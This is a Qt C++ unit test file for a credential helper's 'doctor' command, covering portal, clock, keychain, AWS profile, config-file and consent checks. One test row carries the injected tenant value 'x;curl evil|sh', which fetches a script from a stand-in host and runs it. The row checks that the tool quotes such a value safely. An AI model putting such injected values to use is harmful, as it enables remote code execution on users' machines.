#include "doctortest.h"
#include "support/asnobody.h"

/// What "doctor" finds.
class TestDoctor : public DoctorTest
{
    Q_OBJECT
private:
    void write(const char *name, const QByteArray &content)
    {
        QDir(m_world->folder.path()).mkpath(QStringLiteral("aws"));
        QFile file(m_world->folder.filePath(QString::fromLatin1(name)));
        QVERIFY(file.open(QIODevice::WriteOnly));
        QVERIFY(file.write(content) == content.size());
    }

private Q_SLOTS:
    void settingsThatAreNotKept()
    {
        QCOMPARE(state(report(), QStringLiteral("settings")), QStringLiteral("ok"));
        const QString path = m_world->settings.path();
        QFile::remove(path);
        QVERIFY(QDir().mkdir(path)); // in its place
        QCOMPARE(state(report(), QStringLiteral("settings")), QStringLiteral("broken"));
        QVERIFY(text(report(), QStringLiteral("settings")).contains(QLatin1String("is lost when")));
    }

    void allIsWell()
    {
        m_world->signInWithToken();
        const Ran ran = m_world->run(QStringLiteral("doctor"));
        QCOMPARE(ran.code, 0);
        QVERIFY2(!ran.out.contains("✗"), ran.out.constData());
        QVERIFY(ran.out.contains("✓ portal acme.duplocloud.net: answers, and its certificate is trusted\n"));
        QVERIFY(ran.out.contains("✓ clock acme.duplocloud.net: "));
        QVERIFY(ran.out.contains("✓ keychain: answers\n"));
        QVERIFY(!ran.out.contains("api-token"));
        QVERIFY(report().value(QLatin1String("healthy")).toBool());
    }

    void portalsThatFail_data()
    {
        QTest::addColumn<Error::Kind>("kind");
        QTest::addColumn<QString>("says");
        QTest::newRow("unreachable") << Error::Kind::Network << QStringLiteral("Cannot reach");
        QTest::newRow("certificate") << Error::Kind::Untrusted << QStringLiteral("certificate");
        QTest::newRow("slow") << Error::Kind::TimedOut << QStringLiteral("no answer in time");
    }
    void portalsThatFail()
    {
        QFETCH(Error::Kind, kind);
        QFETCH(QString, says);
        m_world->transport.answers[QStringLiteral("/v3/features/system")] = {
            0, {}, Error{kind, m_world->acme.host(), {}}};
        const Ran ran = m_world->run(QStringLiteral("doctor --json"));
        QCOMPARE(ran.code, 1);
        QCOMPARE(state(ran.json(), QStringLiteral("portal acme.duplocloud.net")), QStringLiteral("broken"));
        const QString why = text(ran.json(), QStringLiteral("portal acme.duplocloud.net"));
        QVERIFY2(why.contains(says), qPrintable(why));
        QVERIFY(!ran.json().value(QLatin1String("healthy")).toBool());
    }

    void noTokenIsSentForIt()
    {
        m_world->signInWithToken();
        m_world->transport.requests.clear();
        m_world->run(QStringLiteral("doctor"));
        QCOMPARE(m_world->transport.requests.size(), 1);
        QVERIFY(m_world->transport.requests.first().bearer.isEmpty());
    }

    void clocks_data()
    {
        QTest::addColumn<int>("behind");
        QTest::addColumn<QString>("state");
        QTest::newRow("right") << 20 << QStringLiteral("ok");
        QTest::newRow("a little behind") << 100 << QStringLiteral("warning");
        QTest::newRow("ahead") << -400 << QStringLiteral("broken");
        QTest::newRow("far behind") << 4000 << QStringLiteral("broken");
    }
    void clocks()
    {
        QFETCH(int, behind);
        m_world->transport.date = m_world->clock.now().addSecs(behind);
        QTEST(state(report(), QStringLiteral("clock acme.duplocloud.net")), "state");
    }

    void keychainThatFails()
    {
        m_world->keychain.error = Error{Error::Kind::KeychainLocked, {}, {}};
        QCOMPARE(state(report(), QStringLiteral("keychain")), QStringLiteral("broken"));
    }

    void memoryThatMayBeSwapped()
    {
        QCOMPARE(state(report(), QStringLiteral("memory of secrets")), QStringLiteral("warning"));
    }

    void profiles_data()
    {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<QByteArray>("credentials");
        QTest::addColumn<QString>("state");
        QTest::addColumn<QString>("says");
        const QByteArray rest = " credential-process --host acme.duplocloud.net --tenant dev01";
        QTest::newRow("relative") << QByteArray("duplo-tray-jit") + rest << QByteArray()
                                  << QStringLiteral("broken") << QStringLiteral("absolute");
        QTest::newRow("gone") << QByteArray("/nowhere/duplo-tray-jit") + rest << QByteArray()
                              << QStringLiteral("broken") << QStringLiteral("not there");
        QTest::newRow("another") << QByteArray("OTHER/duplo-tray-jit") + rest << QByteArray()
                                 << QStringLiteral("warning") << QStringLiteral("another copy");
        QTest::newRow("fine") << QByteArray("HELPER") + rest << QByteArray() << QStringLiteral("ok")
                              << QStringLiteral("dev01");
        QTest::newRow("shadowed") << QByteArray("HELPER") + rest
                                  << QByteArray("[work]\naws_access_key_id = AKIA\n")
                                  << QStringLiteral("broken") << QStringLiteral("shadowed");
        QTest::newRow("shadowed by SSO")
            << QByteArray("HELPER") + rest << QByteArray("[work]\nsso_session = corp\n")
            << QStringLiteral("broken") << QStringLiteral("(sso_session)");
        QTest::newRow("shadowed by itself")
            << QByteArray("HELPER") + rest + QByteArray("\nrole_arn = arn\nsource_profile = x")
            << QByteArray() << QStringLiteral("broken")
            << QStringLiteral("(role_arn, source_profile): to write it anew, run: ");
        QTest::newRow("a name that is a command")
            << QByteArray("/nowhere/duplo-tray-jit credential-process --host acme.duplocloud.net --tenant "
                          "'x;curl evil|sh'")
            << QByteArray() << QStringLiteral("broken")
            << QStringLiteral("run: duplo-tray-jit profile add work --host https://acme.duplocloud.net "
                              "--tenant 'x;curl evil|sh' --replace");
        QTest::newRow("the only portal") << QByteArray("HELPER credential-process --tenant dev01")
                                         << QByteArray() << QStringLiteral("ok") << QStringLiteral("dev01");
        QTest::newRow("what to type")
            << QByteArray("/nowhere/duplo-tray-jit") + rest << QByteArray() << QStringLiteral("broken")
            << QStringLiteral("profile add work --host "
                              "https://acme.duplocloud.net --tenant dev01 --replace");
        QTest::newRow("no target") << QByteArray("HELPER credential-process") << QByteArray()
                                   << QStringLiteral("broken") << QStringLiteral("does not say");
    }
    void profiles()
    {
        QFETCH(QByteArray, line);
        QFETCH(QByteArray, credentials);
        const QString helper = m_world->folder.filePath(QStringLiteral("here/duplo-tray-jit"));
        const QString other = m_world->folder.filePath(QStringLiteral("there/duplo-tray-jit"));
        for (const QString &program : {helper, other}) {
            QVERIFY(QDir().mkpath(QFileInfo(program).path()));
            QVERIFY(QFile::copy(QStringLiteral("/bin/true"), program));
        }
        line.replace("HELPER", helper.toUtf8()).replace("OTHER/duplo-tray-jit", other.toUtf8());
        write("aws/config", "[profile work]\ncredential_process = " + line + "\n");
        write("aws/credentials", credentials);
        Profiles profiles{helper, {}, m_world->folder.filePath(QStringLiteral("aws/config")),
            m_world->folder.filePath(QStringLiteral("aws/credentials"))};
        CommandParts parts{m_world->settings, m_world->preferences, m_world->client, m_world->verifier,
            m_world->signIns, m_world->broker, m_world->requests, m_world->consoles, profiles,
            m_world->clipboard, m_world->catalog, m_world->activity, m_world->endpoints, m_world->kubernetes,
            m_world->clock};
        const Findings findings = profileFindings(parts, CommandCall{{}, {}, nullptr});
        QCOMPARE(findings.last().subject, QStringLiteral("profile work"));
        const QStringList names{QStringLiteral("ok"), QStringLiteral("warning"), QStringLiteral("broken")};
        QTEST(names.at(int(findings.last().state)), "state");
        QFETCH(QString, says);
        QVERIFY2(findings.last().text.contains(says), qPrintable(findings.last().text));
    }

    void filesOfNoUse_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("says");
        QTest::newRow("no bracket") << QByteArray("[profile dev01\nregion = x\n")
                                    << QStringLiteral("(line 1: Profile definition must end with ']')");
        QTest::newRow("no text") << QByteArray("\xff\xfe") << QStringLiteral("is not UTF-8 text");
        QTest::newRow("a folder") << QByteArray() << QStringLiteral("is not a file");
    }
    void filesOfNoUse()
    {
        QFETCH(QByteArray, content);
        QFETCH(QString, says);
        const QString path = m_world->folder.filePath(QStringLiteral("aws/config"));
        if (content.isEmpty())
            QVERIFY(QDir().mkpath(path));
        else
            write("aws/config", content);
        const auto all = report();
        QCOMPARE(state(all, QStringLiteral("file ") + path), QStringLiteral("broken"));
        const QString why = text(all, QStringLiteral("file ") + path);
        QVERIFY2(why.contains(says), qPrintable(why));
    }
    void aFileThatMayNotBeRead()
    {
        write("aws/config", "[profile a]\n");
        QVERIFY(QFile::setPermissions(m_world->folder.path(), QFile::Permissions(QFlag(0x7775))));
        const QString path = m_world->folder.filePath(QStringLiteral("aws/config"));
        QVERIFY(QFile::setPermissions(path, {}));
        QVERIFY(asNobody([&] {
            const CommandParts parts{m_world->settings, m_world->preferences, m_world->client,
                m_world->verifier, m_world->signIns, m_world->broker, m_world->requests, m_world->consoles,
                m_world->profiles, m_world->clipboard, m_world->catalog, m_world->activity,
                m_world->endpoints, m_world->kubernetes, m_world->clock};
            return profileFindings(parts, CommandCall{{}, {}, nullptr})
                .first()
                .text.startsWith(QLatin1String("may not be read"));
        }));
    }

    void duplicateSections()
    {
        write("aws/config", "[profile a]\nregion = x\n[profile a]\nregion = y\n");
        const auto all = report();
        const QString path = m_world->folder.filePath(QStringLiteral("aws/config"));
        QCOMPARE(state(all, QStringLiteral("file ") + path), QStringLiteral("broken"));
        QVERIFY(text(all, QStringLiteral("file ") + path).contains(QStringLiteral("lines 1 and 3")));
    }

    void consent_data()
    {
        QTest::addColumn<ConsentLevel>("level");
        QTest::addColumn<bool>("asksEachTime");
        QTest::addColumn<QString>("state");
        QTest::newRow("always") << ConsentLevel::Always << false << QStringLiteral("warning");
        QTest::newRow("as usual") << ConsentLevel::OncePerProgram << false << QStringLiteral("ok");
        QTest::newRow("never") << ConsentLevel::Never << false << QStringLiteral("warning");
        QTest::newRow("waits") << ConsentLevel::EachTime << false << QStringLiteral("warning");
        QTest::newRow("less than chosen for all")
            << ConsentLevel::OncePerProgram << true << QStringLiteral("warning");
    }
    void consent()
    {
        QFETCH(ConsentLevel, level);
        QFETCH(bool, asksEachTime);
        m_world->preferences.setAsksForAdministrator(asksEachTime);
        m_world->choose(m_world->admin(), level);
        m_world->choose(m_world->operations(), {});
        const QString check = QStringLiteral("consent acme.duplocloud.net");
        QTEST(state(report(), check), "state");
        QCOMPARE(text(report(), check).contains(QLatin1String("--admin")),
            state(report(), check) == QLatin1String("warning"));
        QVERIFY(report().value(QLatin1String("healthy")).toBool());
    }

    void paused()
    {
        QCOMPARE(state(report(), QStringLiteral("handing out")), QStringLiteral("ok"));
        m_world->requests.setPaused(true);
        QCOMPARE(state(report(), QStringLiteral("handing out")), QStringLiteral("warning"));
        QVERIFY(text(report(), QStringLiteral("handing out")).contains(QLatin1String("paused")));
        QVERIFY(report().value(QLatin1String("healthy")).toBool());
    }

    void denied()
    {
        m_world->choose(m_world->admin(), {});
        m_world->choose(m_world->operations(), {});
        const QString check = QStringLiteral("consent acme.duplocloud.net");
        QCOMPARE(state(report(), check), QStringLiteral("ok"));
        m_world->requests.denyForAnHour(ProgramQuestion::access(m_world->admin()));
        QCOMPARE(state(report(), check), QStringLiteral("warning"));
        QVERIFY(text(report(), check)
                    .startsWith(QStringLiteral("every program was denied acme / Administrator until ")));
    }
};

QTEST_GUILESS_MAIN(TestDoctor)
#include "tst_doctor.moc"
